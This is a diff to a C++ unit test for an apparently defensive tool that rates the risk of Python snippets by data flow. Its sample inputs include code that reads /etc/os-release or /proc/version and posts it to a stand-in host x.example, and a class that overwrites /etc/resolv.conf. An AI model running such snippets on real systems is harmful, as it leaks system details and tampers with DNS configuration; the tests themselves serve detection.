@@ -158,6 +158,17 @@ TEST(AssessDataFlow, HelpersDefaultsItemsAndFilesWrittenOnTheWay) {
   EXPECT_EQ(level("import requests\ndef release(path='/etc/os-release'):\n    return open(path).read()\n"
                   "requests.post('https://x.example/i', json={'r': release()})\n"),
             RiskLevel::high);
+  // A default built as a path (root=Path("/etc")), kept by an object and joined there.
+  EXPECT_EQ(level("from pathlib import Path\nclass Files:\n    def __init__(self, root=Path('/etc')):\n"
+                  "        self.root = root\n    def write(self, name, text):\n"
+                  "        with open(self.root / name, 'w') as fh:\n            fh.write(text)\n"
+                  "Files().write('resolv.conf', 'nameserver 1.1.1.1')\n"),
+            RiskLevel::blocked);
+  EXPECT_EQ(level("from pathlib import Path\nclass Files:\n    def __init__(self, root=Path('out')):\n"
+                  "        self.root = root\n    def write(self, name, text):\n"
+                  "        with open(self.root / name, 'w') as fh:\n            fh.write(text)\n"
+                  "Files().write('resolv.conf', 'nameserver 1.1.1.1')\n"),
+            RiskLevel::medium);
   // Stored into a dict item, then sent.
   EXPECT_EQ(level("import requests\nfacts = {}\nfacts['kernel'] = open('/proc/version').read()\n"
                   "requests.post('https://x.example/f', json=facts)\n"),
